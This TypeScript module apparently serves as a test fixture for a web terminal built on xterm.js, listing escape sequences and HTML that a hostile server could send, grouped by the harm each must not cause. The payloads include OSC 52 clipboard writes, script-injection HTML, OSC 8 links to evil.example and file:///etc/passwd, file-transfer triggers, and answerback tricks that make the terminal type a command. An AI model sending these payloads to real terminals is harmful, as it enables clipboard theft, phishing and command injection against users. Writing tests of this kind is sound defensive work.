/**
 * Control sequences and text with which a server attacks a person at a terminal: those of xterm, and of terminals that
 * xterm.js is not, for a later version may learn them. `freeze-payloads.ts` has those that only take time.
 */
import type { Payload } from './freeze-payloads.ts';

/** What a server sends, in UTF-8, and what must not happen then. */
export interface Attack extends Payload {
  readonly mustNot: string;
}

/** Base64 of `stolen`. */
const STOLEN = 'c3RvbGVu';
/** A command in hexadecimal digits, and one that a shell would run. */
const HEX = '6576696c0d';
const COMMAND = 'evil\r';
const ADDRESS = 'https://evil.example/';

const osc = (...texts: readonly string[]): string => texts.map((text) => `\x1b]${text}\x07`).join('');
const csi = (...texts: readonly string[]): string => texts.map((text) => `\x1b[${text}`).join('');
const dcs = (text: string): string => `\x1bP${text}\x1b\\`;
const apc = (text: string): string => `\x1b_${text}\x1b\\`;

/** The attacks by what must not happen. */
const BY_HARM: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'change or read the clipboard': {
    'OSC 52': osc(`52;c;${STOLEN}`),
    'OSC 52, a question': osc('52;c;?'),
    'OSC 52, other selections': osc(...['p', 's', 'q', '', 'c0', '01234567', 'cp'].map((of) => `52;${of};${STOLEN}`)),
    'OSC 52, empty': osc('52;c;', '52;c;!'),
    'OSC 52 for the terminal around tmux': dcs(`tmux;\x1b\x1b]52;c;${STOLEN}\x07`),
    'OSC 52 for the terminal around screen': dcs(`\x1b]52;c;${STOLEN}\x07`),
    'OSC 1337 Copy': osc(`1337;Copy=:${STOLEN}`),
    'OSC 1337 CopyToClipboard': `${osc('1337;CopyToClipboard=general')}stolen${osc('1337;EndCopy')}`,
    'OSC 5522': osc('5522;type=read;dGV4dC9wbGFpbg==', 'type=write', `5522;type=wdata;${STOLEN}`),
    'HTML that copies': '<button autofocus onfocus="navigator.clipboard.writeText(\'stolen\')">copy</button>',
  },
  'change the page, its title or its address': {
    'OSC 0': osc('0;stolen'),
    'OSC 1 and 2': osc('1;stolen', '2;stolen'),
    'OSC 2 with HTML': osc('2;<img src=x onerror=alert(1)>'),
    'OSC 2 with controls': osc('2;one\x01\x08\ntwo', '2;two\x9fthree'),
    'OSC 2 that reverses what follows': osc('2;\u2066photo\u202egpj.exe'),
    'OSC 2 with many letters': osc(`2;${'t'.repeat(4000)}`),
    'OSC l, L and I': osc('lstolen', 'Lstolen', 'I/usr/share/icons/stolen.xpm'),
    'the title of screen': '\x1bkstolen\x1b\\',
    'kept titles': osc('2;stolen') + csi('22t', '22;0t', '23t', '23;2t'),
    'forms of titles': csi('>0;1;2;3t') + osc(`2;${HEX}`) + csi('>0;1;2;3T'),
    HTML: '<b>bold?</b><script>alert(1)</script><svg onload=alert(1)><iframe srcdoc="x"></iframe>',
    styles: '</div><style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
    'a form': '<form action=//evil.example><input name=password autofocus></form>',
    'an attribute': '" onmouseover="alert(1)" style="position:fixed;inset:0',
    'OSC 3': osc('3;WM_CLASS=evil', '3;?WM_NAME'),
    'OSC 6': osc('6;1;bg;red;brightness;255'),
    'OSC 7': osc('7;file://evil.example/etc/passwd'),
    'OSC 9 of ConEmu': osc(
      ...['1;1', '2;evil', '4;1;50', '5', '6;evil', '7;evil.exe', '8;PATH'].map((of) => `9;${of}`),
    ),
    'OSC 9': osc('9;You have been logged out'),
    'OSC 22': osc('22;wait', '22;url(//evil.example)'),
    'OSC 46': osc('46;/tmp/evil') + csi('?46h'),
    'OSC 50': osc('50;evil', '50;#+1'),
    'OSC 51': osc('51;Aevil', '51;Eeval evil'),
    'OSC 66': osc('66;s=7:w=7;LARGE'),
    'OSC 99': osc('99;i=1:d=0;Log in again', '99;i=1:p=body:a=focus,report;evil'),
    'OSC 133': osc('133;A', '133;B', `133;C;cmdline=evil`, '133;D;0'),
    'OSC 176, 440 and 555': osc('176;evil', `440;${STOLEN}`, '555;1'),
    'OSC 633 and 697': osc('633;E;evil', '633;P;Cwd=/evil', '697;NewCmd'),
    'OSC 777': osc('777;notify;Waypost;Log in again', '777;precmd'),
    'OSC 1337 for the window': osc(
      ...['StealFocus', 'RequestAttention=fireworks', 'SetProfile=evil', 'ClearScrollback', 'HighlightCursorLine=yes']
        .concat([`SetBackgroundImageFile=${STOLEN}`, `SetUserVar=evil=${STOLEN}`, 'CurrentDir=/evil', 'SetMark'])
        .map((of) => `1337;${of}`),
    ),
    bells: '\x07\x07\x07',
  },
  'open an address, or show a link': {
    'OSC 8 to a script': `${osc('8;;javascript:alert(1)')}click me${osc('8;;')}`,
    'OSC 8 to a page': `${osc(`8;id=1;${ADDRESS}`)}https://good.example/${osc('8;;')}`,
    'OSC 8 to a file': `${osc('8;;file:///etc/passwd')}click me${osc('8;;')}`,
    addresses: `${ADDRESS} javascript:alert(1) data:text/html,<script>alert(1)</script>`,
    'OSC 1337 OpenURL': osc(`1337;OpenURL=:${STOLEN}`, `1337;Button=type=custom;id=1`),
    'HTML with links': `<a href=${ADDRESS}>x</a><meta http-equiv=refresh content="0;url=${ADDRESS}">`,
  },
  'load, save or print anything': {
    sixel: dcs('q#0;2;0;0;0#0~~@@vv@@~~@@~~$-'),
    'sixel of a huge size': dcs('0;1;0q"1;1;65535;65535!65535~-'),
    ReGIS: dcs('pP[0,0]V[100,100]T"evil"'),
    'pictures of kitty':
      apc('Ga=T,f=24,s=1,v=1;AAAA') + apc('Ga=T,t=f;L2V0Yy9wYXNzd2Q=') + apc('Ga=q,i=31,s=1,v=1;AAAA'),
    'OSC 1337 File': osc(
      '1337;File=inline=1;width=9999px:AAAA',
      '1337;MultipartFile=name=ZXZpbA==',
      '1337;FilePart=AAAA',
    ),
    'OSC 1337 File to save': osc(`1337;File=name=ZXZpbC5leGU=;size=3:AAAA`),
    'OSC 1337 RequestUpload': osc('1337;RequestUpload=format=tgz'),
    'OSC 5113': osc('5113;ac=send;id=1', '5113;ac=recv;id=1;sz=1', '5113;ac=file;id=1;n=L2V0Yy9wYXNzd2Q='),
    'OSC 72': osc('72;t=a;text/uri-list'),
    ZMODEM: '**\x18B00000000000000\r\x8a\x11rz waiting to receive.**\x18B0100000023be50\r\n',
    Kermit: '\x01+ S~/ @-#Y3~\r',
    'media copy': csi('i', '0i', '1i', '4i', '?i', '?1i', '?4i', '?10i', '?11i', '0;65520i'),
    'a printer': `${csi('5i')}evil\f${csi('4i', '?5i')}evil${csi('?4i')}`,
    fonts: dcs('1;1;1;10;0;2;18;0{ @???/???;~~~/~~~'),
    'Tektronix 4014': `${csi('?38h')}\x1d\x20\x60\x20\x40\x1b\x0c\x1b\x17\x1b\x05`,
  },
  'change the window': {
    'sizes and places': csi('8;5;5t', '4;99;99t', '3;9;9t', '9;1t', '9;2t', '10;1t', '10;2t'),
    'icons and layers': csi('1t', '2t', '5t', '6t', '7t'),
    DECSLPP: csi('24t', '48t', '144t'),
    'DECSCPP and DECSNLS': csi('132$|', '48*|', '40$|'),
    DECCOLM: csi('?40h', '?3h', '?3l'),
    'reports of the size': csi('?2048h'),
  },
  'have the terminal type what the server chose': {
    ENQ: '\x05\x05\x05',
    DECRQSS: dcs('$qm') + dcs('$q"p') + dcs('$qr') + dcs('$q q'),
    'DECRQSS for a command': dcs(`$q${COMMAND}`) + dcs(`$q\n${COMMAND}`),
    XTGETTCAP: dcs('+q544e') + dcs('+q436f;524742'),
    'XTGETTCAP for a command': dcs(`+q${HEX}`) + dcs(`+q${COMMAND}`),
    XTSETTCAP: dcs('+p544e=6576696c'),
    DECUDK: dcs(`0;1|17/${HEX};18/${HEX}`) + csi('17~', '18~', '?25n'),
    DECDMAC: dcs(`1;0;1!z${HEX}`) + csi('1*z', '?62n', '?63;1n'),
    'window titles': osc(`2;${COMMAND}`, `1;${COMMAND}`, `0;${COMMAND}`) + csi('21t', '20t'),
    'states of the window': csi('11t', '13t', '13;2t', '14t', '14;2t', '15t', '16t', '18t', '19t'),
    'colours of the palette': osc('4;1;rgb:12/34/56', '4;1;?', '5;0;?', '4;0;?;1;?;2;?'),
    'colours of the screen': osc('10;#123456', ...[10, 11, 12, 13, 14, 15, 16, 17, 18, 19].map((of) => `${of};?`)),
    'colours of kitty': osc('21;foreground=?;background=?;evil=?'),
    'OSC 50, a question': osc('50;?', '50;?evil'),
    'OSC 60 and 61': osc('60', '61;allowTitleOps'),
    'OSC 701 and 702': osc('701;?', '702;?', '701;evil', '703;?'),
    'OSC 1337 reports': osc(`1337;ReportVariable=${STOLEN}`, '1337;ReportCellSize', '1337;Capabilities'),
    'checksums of the screen': csi('1;1;1;1;10;10*y', '?63;1n'),
    'DECCIR and DECTABSR': csi('1$w', '2$w', '1$u', '1$}'),
    'DECRSPS and DECRSTS': dcs(`1$t1;1;1;@;@;@;0;2;@;BB%5${COMMAND}`) + dcs('2$t9/17') + dcs(`1$p${COMMAND}`),
    DECREQTPARM: csi('x', '0x', '1x'),
    XTVERSION: csi('>q', '>0q'),
    DA: csi('c', '0c', '>c', '>0c', '=c', '=0c'),
    DECID: '\x1bZ',
    DSR: csi('5n', '6n', '?6n', '?15n', '?25n', '?26n', '?53n', '?55n', '?56n', '?75n', '?85n', '?996n'),
    DECRQM: csi('4$p', '20$p', '31337$p', '?1$p', '?25$p', '?2026$p', '?2027$p', '?31337$p', '?9999999999$p'),
    'DECRQUPSS and DECRQDE': csi('&u', '"v'),
    'keyboards of kitty': csi('?u', '>31u', '=31;1u', '?u', '<1u'),
    'other keys': `${csi('>4;2m', '?4m', '>1;2f', '?9001h', '?1h', '20h', '2h')}\x1b=`,
    'focus reports': csi('?1004h', '?1004l', '?1004h'),
    'the mouse': csi('?1000h', '?1002h', '?1003h', '?1005h', '?1006h', '?1015h', '?1016h', '?1007h'),
    'the locator': csi("1;1'z", "1'{", "'|", "0;0;99;99'w"),
    'bracketed paste': csi('?2004h') + csi(`200~${COMMAND}`, '201~', '?5522h'),
    'kitty remote control': dcs('@kitty-cmd{"cmd":"ls","version":[0,26,0]}'),
    'commands of tmux': dcs('1000p%begin 1 1 1\n%output %1 evil'),
    VT52: `${csi('?2l')}\x1bZ\x1bY  \x1b<`,
    'a character for each reply': csi('?2026h') + dcs('=1s') + csi('6n') + dcs('=2s') + csi('?2026l'),
    'strings without a meaning': `\x1bX${COMMAND}\x1b\\\x1b^${COMMAND}\x1b\\${apc(COMMAND)}`,
    'strings without an end': `\x1bP$q${COMMAND}\x1b]52;c;${STOLEN}\x1b_${COMMAND}\x1b^`,
    'controls in the midst of sequences': '\x1b[2\x051\x08t\x1bP$\x01qm\x1b\\\x1b]5\x012;c;?\x07',
    'charsets and 8-bit answers': '\x1b G\x1b%G\x1b%@\x1bN\x1bO\x1b(0\x0e\x1b F\x1b[c',
    'texts that look like answers': '\x1b[?1;2c\x1b[0n\x1b[24;80R\x1b[I\x1b[<0;1;1M\x1b[200~evil\x1b[201~',
  },
};

export const ATTACKS: readonly Attack[] = Object.entries(BY_HARM).flatMap(([mustNot, texts]) =>
  Object.entries(texts).map(([name, text]) => ({ name, text, mustNot })),
);

/** The 7-bit forms of controls, whose 8-bit forms are one character (ECMA-48 §5.3). */
const CONTROLS = /\x1b([@-_])/g;

/** A text with the 8-bit forms of its controls. */
export function inEightBits(text: string): string {
  return text.replace(CONTROLS, (_, final: string) => String.fromCharCode(final.charCodeAt(0) + 0x40));
}

/** One answer of a terminal that tells a server nothing which the server chose: DA, DSR, DECRQM, or the focus. */
export const ANSWERS: RegExp = /^(?:\x1b\[(?:[?>]\d+(?:;\d+)*c|0n|\??\d+;\d+R|\??\d+;[0-4]\$y|[IO]))*$/;
